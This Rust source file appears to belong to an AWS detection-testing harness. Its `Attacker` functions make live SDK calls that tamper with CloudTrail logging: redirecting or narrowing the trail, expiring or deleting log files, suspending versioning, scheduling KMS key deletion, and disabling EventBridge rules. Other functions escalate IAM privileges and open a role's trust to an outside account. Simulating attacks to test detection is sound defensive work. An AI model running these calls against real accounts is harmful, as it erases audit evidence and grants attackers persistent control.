//! What attackers call, each answering the event that CloudTrail would deliver of it.

use aws_sdk_cloudtrail::{
    operation::RequestId,
    types::{EventSelector, ReadWriteType},
};
use aws_sdk_s3::types::{
    BucketVersioningStatus, Delete, ObjectIdentifier, VersioningConfiguration,
};
use serde_json::{Value, json};

use super::{
    ACCOUNT, ADMINISTRATOR, DENY_POLICY_ARN, EVERYTHING, LOG_BUCKET, REGION, TRAIL_ARN,
    archive::{account_only, expiring_after},
    attacker::Attacker,
    error::{Context, Error, Result},
    event::Event,
    rules::Watcher,
};

impl Attacker {
    /// Sends the trail's files to another bucket.
    pub(crate) async fn redirect_trail(&self, bucket: &str) -> Result<Event> {
        let call = self.aws.cloudtrail.update_trail().name(TRAIL_ARN);
        self.made(
            "cloudtrail:UpdateTrail",
            json!({"name": TRAIL_ARN, "s3BucketName": bucket}),
            call.s3_bucket_name(bucket).send().await,
        )
    }

    /// Makes the trail record reads only.
    pub(crate) async fn narrow_trail(&self) -> Result<Event> {
        let reads = EventSelector::builder()
            .read_write_type(ReadWriteType::ReadOnly)
            .include_management_events(true);
        let call = self.aws.cloudtrail.put_event_selectors();
        let call = call.trail_name(TRAIL_ARN).event_selectors(reads.build());
        self.made(
            "cloudtrail:PutEventSelectors",
            json!({"trailName": TRAIL_ARN, "eventSelectors": [{
                "readWriteType": "ReadOnly",
                "includeManagementEvents": true,
                "dataResources": [],
                "excludeManagementEventSources": [],
            }]}),
            call.send().await,
        )
    }

    /// Lets the log files expire after a day.
    pub(crate) async fn shorten_lifecycle(&self) -> Result<Event> {
        let call = self.aws.s3.put_bucket_lifecycle_configuration();
        let call = call.lifecycle_configuration(expiring_after(1)?);
        self.made(
            "s3:PutBucketLifecycle",
            of_bucket(
                "lifecycle",
                &json!({"LifecycleConfiguration": {
                    "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                    "Rule": {
                        "ID": "expire-log-files",
                        "Status": "Enabled",
                        "Filter": {"Prefix": "AWSLogs/"},
                        "Expiration": {"Days": 1},
                        "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
                    },
                }}),
            ),
            call.bucket(LOG_BUCKET).send().await,
        )
    }

    /// Removes the policy by which CloudTrail may write log files.
    pub(crate) async fn delete_bucket_policy(&self) -> Result<Event> {
        let call = self.aws.s3.delete_bucket_policy().bucket(LOG_BUCKET);
        self.made(
            "s3:DeleteBucketPolicy",
            of_bucket("policy", &json!({})),
            call.send().await,
        )
    }

    /// Makes the log bucket forget what is overwritten or deleted.
    pub(crate) async fn suspend_versioning(&self) -> Result<Event> {
        let off = VersioningConfiguration::builder().status(BucketVersioningStatus::Suspended);
        let call = self.aws.s3.put_bucket_versioning().bucket(LOG_BUCKET);
        self.made(
            "s3:PutBucketVersioning",
            of_bucket(
                "versioning",
                &json!({"VersioningConfiguration": {
                    "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                    "Status": "Suspended",
                }}),
            ),
            call.versioning_configuration(off.build()).send().await,
        )
    }

    /// Deletes a log file.
    pub(crate) async fn delete_log_file(&self, file: &str) -> Result<Event> {
        let object = ObjectIdentifier::builder().key(file).build();
        let delete = Delete::builder().objects(object.context("an object")?);
        let call = self.aws.s3.delete_objects().bucket(LOG_BUCKET);
        let call = call.delete(delete.build().context("a deletion")?);
        let event = self.made(
            "s3:DeleteObjects",
            of_bucket("delete", &json!({})),
            call.send().await,
        )?;
        let bucket = format!("arn:aws:s3:::{LOG_BUCKET}");
        Ok(event.of_data(json!([
            {"type": "AWS::S3::Object", "ARNPrefix": format!("{bucket}/")},
            {"type": "AWS::S3::Bucket", "accountId": ACCOUNT, "ARN": bucket},
        ])))
    }

    /// Has the trail's key deleted in a week.
    pub(crate) async fn schedule_key_deletion(&self, key: &str) -> Result<Event> {
        let call = self.aws.kms.schedule_key_deletion().key_id(key);
        self.made(
            "kms:ScheduleKeyDeletion",
            json!({"keyId": key, "pendingWindowInDays": 7}),
            call.pending_window_in_days(7).send().await,
        )
    }

    /// Takes the trail's key from CloudTrail.
    pub(crate) async fn take_key(&self, key: &str) -> Result<Event> {
        let policy = account_only().to_string();
        let call = self.aws.kms.put_key_policy().key_id(key);
        self.made(
            "kms:PutKeyPolicy",
            json!({"keyId": key, "policyName": "default", "policy": policy}),
            call.policy(&policy).send().await,
        )
    }

    /// Turns a rule off.
    pub(crate) async fn disable_rule(&self, rule: &str) -> Result<Event> {
        let call = self.aws.eventbridge.disable_rule().name(rule);
        self.made(
            "events:DisableRule",
            json!({"name": rule}),
            call.send().await,
        )
    }

    /// Takes a rule's targets away, then deletes it: two calls, two events.
    pub(crate) async fn delete_rule(&self, watcher: &Watcher) -> Result<[Event; 2]> {
        let (events, rule) = (&self.aws.eventbridge, watcher.name());
        let ids: Vec<_> = watcher.targets.iter().map(|target| &target.id).collect();
        let call = events.remove_targets().rule(rule);
        let call = call.set_ids(Some(ids.iter().map(|id| (*id).clone()).collect()));
        let removed = self.made(
            "events:RemoveTargets",
            json!({"rule": rule, "ids": ids, "force": false}),
            call.send().await,
        )?;
        let call = events.delete_rule().name(rule);
        let deleted = self.made(
            "events:DeleteRule",
            json!({"name": rule, "force": false}),
            call.send().await,
        )?;
        Ok([removed, deleted])
    }

    /// Denies everything to a role.
    pub(crate) async fn disarm_role(&self, role: &str) -> Result<Event> {
        let policy = EVERYTHING.replace("Allow", "Deny");
        let call = self.aws.iam.put_role_policy().role_name(role);
        let call = call.policy_name("disarmed").policy_document(&policy);
        self.made(
            "iam:PutRolePolicy",
            json!({"roleName": role, "policyName": "disarmed", "policyDocument": policy}),
            call.send().await,
        )
    }

    /// Takes the denial off a user.
    pub(crate) async fn detach_denial(&self, user: &str) -> Result<Event> {
        let call = self.aws.iam.detach_user_policy().user_name(user);
        self.made(
            "iam:DetachUserPolicy",
            json!({"userName": user, "policyArn": DENY_POLICY_ARN}),
            call.policy_arn(DENY_POLICY_ARN).send().await,
        )
    }

    /// Gives a user all rights.
    pub(crate) async fn make_administrator(&self, user: &str) -> Result<Event> {
        let call = self.aws.iam.attach_user_policy().user_name(user);
        self.made(
            "iam:AttachUserPolicy",
            json!({"userName": user, "policyArn": ADMINISTRATOR}),
            call.policy_arn(ADMINISTRATOR).send().await,
        )
    }

    /// Opens a role's trust to another account.
    pub(crate) async fn open_trust(&self, role: &str) -> Result<Event> {
        let trust = json!({"Version": "2012-10-17", "Statement": [{
            "Effect": "Allow",
            "Principal": {"AWS": ["arn:aws:iam::999988887777:root", format!("arn:aws:iam::{ACCOUNT}:root")]},
            "Action": "sts:AssumeRole",
        }]})
        .to_string();
        let call = self.aws.iam.update_assume_role_policy().role_name(role);
        self.made(
            "iam:UpdateAssumeRolePolicy",
            json!({"roleName": role, "policyDocument": trust}),
            call.policy_document(&trust).send().await,
        )
    }

    /// Starts a state machine; answers its execution too.
    pub(crate) async fn start(&self, machine: &str, input: &Value) -> Result<(Event, String)> {
        let call = self.aws.sfn.start_execution().state_machine_arn(machine);
        let answer = call.input(input.to_string()).send().await;
        let execution = answer.as_ref().map(|answer| answer.execution_arn.clone());
        let execution = execution.unwrap_or_default();
        let event = self.made(
            "states:StartExecution",
            json!({"stateMachineArn": machine, "input": "HIDDEN_DUE_TO_SECURITY_REASONS"}),
            answer,
        )?;
        Ok((event, execution))
    }

    /// The event of a call that was answered; `api` is as CloudTrail names it.
    fn made<T, E>(
        &self,
        api: &str,
        request: Value,
        answer: std::result::Result<T, E>,
    ) -> Result<Event>
    where
        T: RequestId,
        E: Into<Error>,
    {
        let answer = answer.context(format!("{} calls {api}", self.who))?;
        let (service, name) = api.split_once(':').unwrap_or((api, api));
        let id = answer.request_id().unwrap_or_default();
        Ok(Event::of_call(&self.identity, service, name, &request, id))
    }
}

/// What CloudTrail writes of a request to S3 about the log bucket.
fn of_bucket(subresource: &str, body: &Value) -> Value {
    let mut request = body.clone();
    request["bucketName"] = LOG_BUCKET.into();
    request[subresource] = "".into();
    request["Host"] = format!("{LOG_BUCKET}.s3.{REGION}.amazonaws.com").into();
    request
}
